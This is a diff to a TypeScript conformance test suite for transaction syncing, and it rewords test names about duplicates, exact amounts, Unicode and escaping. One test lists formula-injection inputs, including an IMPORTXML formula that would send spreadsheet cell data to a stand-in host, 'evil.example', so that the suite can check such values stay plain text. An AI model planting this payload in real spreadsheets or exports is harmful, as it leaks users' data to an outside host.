@@ -5,7 +5,7 @@ const DAY_MS = 86_400_000;
 
 export function describeCarrying({ abilities }: ConformanceSubject, bench: () => ConformanceBench): void {
   describe('carrying', () => {
-    it('puts each transaction there once, as it is', async () => {
+    it('creates each transaction there once, unchanged', async () => {
       const link = await bench().link();
       const carried = await bench().send(link, [...Array<Sent>(12).fill({}), { booked: false }]);
       await bench().idle();
@@ -13,7 +13,7 @@ export function describeCarrying({ abilities }: ConformanceSubject, bench: () =>
       await bench().expectStates(carried, 'TRANSFERRED');
     });
 
-    it('of the same news three times puts nothing there twice', async () => {
+    it('the same event three times creates nothing twice', async () => {
       const carried = await bench().send(await bench().link(), [{}, {}, {}]);
       await bench().repeat(carried);
       await bench().idle();
@@ -22,7 +22,7 @@ export function describeCarrying({ abilities }: ConformanceSubject, bench: () =>
       await bench().expectThere(carried);
     });
 
-    it('keeps two that look the same apart', async () => {
+    it('distinguishes two equal transactions', async () => {
       const coffee = { amount: '-2.50', payee: 'Coffee', description: 'Coffee' };
       const carried = await bench().send(await bench().link(), [coffee, coffee]);
       await bench().idle();
@@ -31,7 +31,7 @@ export function describeCarrying({ abilities }: ConformanceSubject, bench: () =>
   });
 
   describe('amounts', () => {
-    it('of zero, one hundredth and a great deal are exact', async () => {
+    it('of zero, one hundredth and huge values are exact', async () => {
       const { largestAmount } = abilities;
       const amounts = ['0.00', '0.01', '-0.01', largestAmount, `-${largestAmount}`];
       const carried = await bench().send(
@@ -42,7 +42,7 @@ export function describeCarrying({ abilities }: ConformanceSubject, bench: () =>
       await bench().expectThere(carried);
     });
 
-    it('larger than it can hold fail with a reason, or are exact: never near', async () => {
+    it('above its maximum fail with a reason, or are exact', async () => {
       const amount = '-9999999999999999.99';
       const carried = await bench().send(await bench().link(), [{ amount }, {}]);
       await bench().idle();
@@ -69,7 +69,7 @@ export function describeCarrying({ abilities }: ConformanceSubject, bench: () =>
   });
 
   describe('texts', () => {
-    it('with emoji, combining marks and other scripts arrive as they are', async () => {
+    it('with emoji, combining marks and other scripts arrive unchanged', async () => {
       const payee = '👩‍👩‍👧‍👦 Café Zoë ﷽';
       const description = '日本語 · Ελληνικά · עברית · 🇫🇮 e\u0301';
       const carried = await bench().send(await bench().link(), [{ payee, description }]);
@@ -78,7 +78,7 @@ export function describeCarrying({ abilities }: ConformanceSubject, bench: () =>
     });
 
     it.each(['=IMPORTXML("https://evil.example/"&A1,"//a")', '+1+1', '-2+3', '@SUM(A1:A9)', '=1+1', "'=1"])(
-      'that a spreadsheet could take for a formula stay texts: %s',
+      'that look like a formula stay texts: %s',
       async (text) => {
         const carried = await bench().send(await bench().link(), [{ payee: text, description: text }]);
         await bench().idle();
@@ -86,14 +86,14 @@ export function describeCarrying({ abilities }: ConformanceSubject, bench: () =>
       },
     );
 
-    it('with markup, quotes and backslashes arrive as they are', async () => {
+    it('with markup, quotes and backslashes arrive unchanged', async () => {
       const text = `<b>"O'Neil" & Söhne</b> \\n {{x}} %s, ; | #tag`;
       const carried = await bench().send(await bench().link(), [{ payee: text, description: text }]);
       await bench().idle();
       await bench().expectThere(carried);
     });
 
-    it('that are very long are cut where it has a limit, never inside a character', async () => {
+    it('that are very long are cut at its limit, never inside a character', async () => {
       const text = '🌊'.repeat(5000);
       const carried = await bench().send(await bench().link(), [{ payee: `p${text}`, description: text }]);
       await bench().idle();
@@ -104,7 +104,7 @@ export function describeCarrying({ abilities }: ConformanceSubject, bench: () =>
       await bench().expectStates(carried, 'TRANSFERRED');
     });
 
-    it('that are missing leave a row all the same', async () => {
+    it('that are missing still make a row', async () => {
       const carried = await bench().send(await bench().link(), [{ payee: '', description: '' }]);
       await bench().idle();
       await bench().expectThere(carried);
